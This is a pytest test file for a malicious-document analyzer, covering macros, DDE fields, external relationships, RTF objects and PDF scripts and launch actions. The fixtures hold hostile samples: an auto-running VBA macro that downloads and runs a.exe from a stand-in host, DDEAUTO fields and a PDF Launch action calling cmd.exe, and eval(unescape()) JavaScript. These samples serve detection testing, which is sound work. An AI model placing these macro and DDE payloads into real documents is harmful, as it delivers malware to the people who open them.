"""What the analyzer ``document`` names in documents of each format."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Mapping
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from orchestrator.demo.files.archives import zip_of
from orchestrator.demo.files.compound_file import compound_file
from orchestrator.demo.files.vba_project import MODULE_NAME, compress, vba_project
from tests.fixtures.documents import analyze_document
from workers import Analysis, Unsupported

CONTENT_TYPES = {"[Content_Types].xml": b"<Types/>"}
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def analyze(tmp_path: Path):
    def run(data: bytes) -> Analysis:
        return analyze_document(tmp_path / "sample", data)

    return run


def findings(analysis: Analysis, kind: str) -> list[dict[str, str]]:
    return [item for item in analysis.result["findings"] if item["kind"] == kind]


def macro_project(stream: str, data: bytes) -> bytes:
    project = vba_project("AutoOpen", "")
    folder = project["VBA"]
    assert isinstance(folder, Mapping)
    return compound_file({**project, "VBA": {**folder, stream: data}})


def macro_document(source: str) -> bytes:
    code = f'Attribute VB_Name = "{MODULE_NAME}"\r\n{source}\r\n'.encode()
    return macro_project(MODULE_NAME, compress(code))


def pdf_document(tmp_path: Path, **entries: pikepdf.Object) -> bytes:
    path = tmp_path / "made.pdf"
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        for name, value in entries.items():
            pdf.Root[f"/{name}"] = value
        pdf.save(path)
    return path.read_bytes()


def script_action(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


@pytest.mark.parametrize("name", ["AutoOpen", "Document_Open", "Workbook_Open"])
def test_an_automatic_macro_is_named_with_its_module(analyze, name: str):
    analysis = analyze(macro_document(f'Sub {name}()\r\n  MsgBox "x"\r\nEnd Sub'))

    assert findings(analysis, "macro_auto_exec") == [
        {"kind": "macro_auto_exec", "name": name, "module": MODULE_NAME}
    ]
    assert analysis.score == 60


def test_a_macro_that_waits_to_be_asked_is_still_a_macro(analyze):
    analysis = analyze(macro_document("Sub Total()\r\n  x = 1 + 2\r\nEnd Sub"))

    assert findings(analysis, "macro_auto_exec") == []
    assert analysis.score == 30


def test_a_macro_that_downloads_and_runs_by_itself_is_malicious(analyze):
    source = (
        "Sub AutoOpen()\r\n"
        '  Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
        '  x.Open "GET", "http://files.example/a.exe", False\r\n'
        '  Shell "a.exe"\r\nEnd Sub'
    )

    analysis = analyze(macro_document(source))

    (row,) = analysis.result["macros"]
    assert "AutoOpen" in row["auto_exec"]
    assert "Shell" in row["suspicious"]
    assert "http://files.example/a.exe" in row["indicators"]
    assert analysis.score >= 70


def test_the_source_of_a_macro_is_not_in_the_result(analyze):
    analysis = analyze(macro_document('Sub AutoOpen()\r\n  MsgBox "secret"\r\nEnd Sub'))

    assert "secret" not in str(analysis.result)


def test_a_document_module_without_code_is_no_macro(analyze):
    analysis = analyze(macro_document("Attribute VB_Exposed = True"))

    assert findings(analysis, "macro") == []


def test_a_damaged_macro_project_is_reported_and_not_fatal(analyze):
    analysis = analyze(macro_project("dir", b"\x01garbage"))

    assert findings(analysis, "macro") or findings(analysis, "macro_unreadable")


def test_a_macro_inside_an_office_package_names_its_part(analyze):
    parts = {
        **CONTENT_TYPES,
        "xl/renamed.bin": macro_document("Sub Auto_Open()\r\nx = 1\r\nEnd Sub"),
    }

    analysis = analyze(zip_of(parts))

    assert findings(analysis, "macro")[0]["where"] == "xl/renamed.bin"
    assert findings(analysis, "macro_auto_exec")


@pytest.mark.parametrize(
    ("kind", "finding"),
    [
        ("attachedTemplate", "external_template"),
        ("oleObject", "external_object"),
        ("hyperlink", "external_link"),
    ],
)
def test_relationships_to_elsewhere_are_told_apart(analyze, kind: str, finding: str):
    rels = (
        f'<Relationships><Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" '
        'Target="https://templates.example/a?x=1&amp;y=2" TargetMode="External"/>'
        "</Relationships>"
    )

    analysis = analyze(zip_of({**CONTENT_TYPES, "word/_rels/a.rels": rels.encode()}))

    (found,) = findings(analysis, finding)
    assert found["name"] == "https://templates.example/a?x=1&y=2"
    assert analysis.result["relationships"][0]["type"] == kind


@pytest.mark.parametrize(
    "target",
    [
        "https://pages.example/a.html!",
        "mhtml:http://pages.example/a.html!x-usc:http://pages.example/a.html",
    ],
)
def test_a_web_page_as_an_object_is_an_exploit(analyze, target: str):
    rels = (
        f'<Relationships><Relationship Id="rId1" Type="{RELATIONSHIPS}/oleObject" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )

    analysis = analyze(zip_of({**CONTENT_TYPES, "word/_rels/a.rels": rels.encode()}))

    assert findings(analysis, "external_page")[0]["name"] == target
    assert analysis.score >= 60


def test_relationships_within_the_package_are_no_findings(analyze):
    rels = f'<Relationship Type="{RELATIONSHIPS}/oleObject" Target="embeddings/a.bin"/>'

    analysis = analyze(zip_of({**CONTENT_TYPES, "word/_rels/a.rels": rels.encode()}))

    assert analysis.result["findings"] == []


def test_a_dde_field_is_found_even_when_it_is_split(analyze):
    text = (
        "<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\windows"
        "\\\\system32\\\\cmd.exe</w:instrText>"
    )

    analysis = analyze(zip_of({**CONTENT_TYPES, "word/document.xml": text.encode()}))

    assert findings(analysis, "dde")
    assert analysis.score == 45


def test_embedded_files_of_a_package_are_listed(analyze):
    parts = {**CONTENT_TYPES, "word/embeddings/run.exe": b"MZ"}

    analysis = analyze(zip_of(parts))

    assert analysis.result["objects"][0]["file_name"] == "run.exe"
    assert findings(analysis, "embedded_program")


def test_an_excel_4_macro_sheet_is_found(analyze):
    parts = {**CONTENT_TYPES, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}

    assert findings(analyze(zip_of(parts)), "macro_excel4")


def test_a_part_that_unpacks_to_an_absurd_size_is_not_unpacked(analyze):
    bomb = {**CONTENT_TYPES, "word/document.xml": bytes(40 * 1024 * 1024)}

    analysis = analyze(zip_of(bomb))

    assert findings(analysis, "part_too_large")
    assert analysis.result["truncated"]


def test_an_encrypted_package_says_so(analyze):
    analysis = analyze(compound_file({"EncryptedPackage": bytes(100)}))

    assert analysis.result["encrypted"] is True
    assert analysis.score == -1


def test_a_program_packed_into_an_ole_object_is_named(analyze):
    path = b"C:\\a\\pay.exe\0"
    native = struct.pack("<H", 2) + b"pay.exe\0" + path + bytes(8) + path
    native += struct.pack("<I", 2) + b"MZ"
    stream = struct.pack("<I", len(native)) + native

    analysis = analyze(
        compound_file({"ObjectPool": {"_1": {"\x01Ole10Native": stream}}})
    )

    assert findings(analysis, "embedded_program")[0]["name"] == "pay.exe"


@pytest.mark.parametrize(
    ("text", "finding"),
    [
        (b"{\\rtf1 {\\*\\template http://e.example/a.dotm}}", "external_template"),
        (b"{\\rtf1 {\\object\\objupdate{\\*\\objdata 00}}}", "rtf_object_update"),
        (b'{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd "/c"}}}', "dde"),
        (b"{\\rtf1 {\\object{\\*\\objdata 0105}}}", "rtf_object"),
    ],
)
def test_rich_text_findings(analyze, text: bytes, finding: str):
    assert findings(analyze(text), finding)


def test_a_script_at_opening_says_where_it_is(analyze, tmp_path: Path):
    analysis = analyze(pdf_document(tmp_path, OpenAction=script_action("app.alert(1)")))

    assert findings(analysis, "pdf_javascript") == [
        {"kind": "pdf_javascript", "where": "/OpenAction"}
    ]
    assert findings(analysis, "pdf_javascript_on_open")
    assert analysis.score == 50


def test_a_script_in_the_name_tree_runs_at_opening_too(analyze, tmp_path: Path):
    tree = Dictionary(Names=Array([String("a"), script_action("x = 1")]))

    analysis = analyze(pdf_document(tmp_path, Names=Dictionary(JavaScript=tree)))

    assert (
        findings(analysis, "pdf_javascript")[0]["where"] == "/Names/JavaScript/Names/1"
    )
    assert findings(analysis, "pdf_javascript_on_open")


def test_functions_that_exploits_use_are_named(analyze, tmp_path: Path):
    analysis = analyze(
        pdf_document(tmp_path, OpenAction=script_action("eval(unescape())"))
    )

    names = {item["name"] for item in findings(analysis, "pdf_javascript_suspicious")}
    assert names == {"eval", "unescape"}
    assert analysis.score == 70


def test_a_launch_action_is_found(analyze, tmp_path: Path):
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))

    analysis = analyze(pdf_document(tmp_path, OpenAction=action))

    assert findings(analysis, "pdf_launch") == [
        {"kind": "pdf_launch", "where": "/OpenAction", "name": "cmd.exe"}
    ]


def test_embedded_files_forms_and_links_are_counted(analyze, tmp_path: Path):
    analysis = analyze(
        pdf_document(
            tmp_path,
            AcroForm=Dictionary(Fields=Array([]), XFA=String("x")),
            Extra=Dictionary(
                File=Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary()),
                Link=Dictionary(S=Name.URI, URI=String("http://e.example/")),
            ),
        )
    )

    assert analysis.result["pdf"]["embedded_files"] == ["a.txt"]
    assert analysis.result["pdf"]["uris"] == 1
    assert findings(analysis, "pdf_form")
    assert findings(analysis, "pdf_xfa")


def test_an_encrypted_pdf_is_reported(analyze, tmp_path: Path):
    path = tmp_path / "locked.pdf"
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(path, encryption=pikepdf.Encryption(user="u", owner="o"))

    analysis = analyze(path.read_bytes())

    assert analysis.result["encrypted"] is True
    assert analysis.result["pdf"] is None


def test_a_macro_in_word_xml_is_found(analyze):
    packed = b"ActiveMime".ljust(0x32, b"\0")
    packed += zlib.compress(macro_document("Sub AutoOpen()\r\nx = 1\r\nEnd Sub"))
    space = "http://schemas.microsoft.com/office/word/2003/wordml"
    text = (
        f'<?xml version="1.0"?><w:wordDocument xmlns:w="{space}">'
        f'<w:binData w:name="editdata.mso">{base64.b64encode(packed).decode()}'
        "</w:binData></w:wordDocument>"
    )

    analysis = analyze(text.encode())

    assert analysis.result["format"] == "xml"
    assert findings(analysis, "macro_auto_exec")


def test_other_xml_has_no_findings(analyze):
    analysis = analyze(b'<?xml version="1.0"?><svg/>')

    assert analysis.score == -1


def test_an_opendocument_file_names_its_macros_and_events(analyze):
    listener = '<script:event-listener script:event-name="dom:load"/>'
    parts = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": listener.encode(),
        "Basic/Standard/script-lb.xml": b"<library/>",
        "Basic/Standard/Module1.xml": b"<script:module/>",
    }

    analysis = analyze(zip_of(parts))

    assert [item["module"] for item in findings(analysis, "macro")] == ["Module1"]
    assert findings(analysis, "macro_auto_exec")[0]["name"] == "dom:load"


@pytest.mark.parametrize(
    "data",
    [b"", b"text", b"PK\x03\x04 broken", zip_of({"a": b"b"}), b"%PDF-1.7\ngarbage"],
)
def test_what_is_no_document_is_unsupported(analyze, data: bytes):
    with pytest.raises(Unsupported):
        analyze(data)
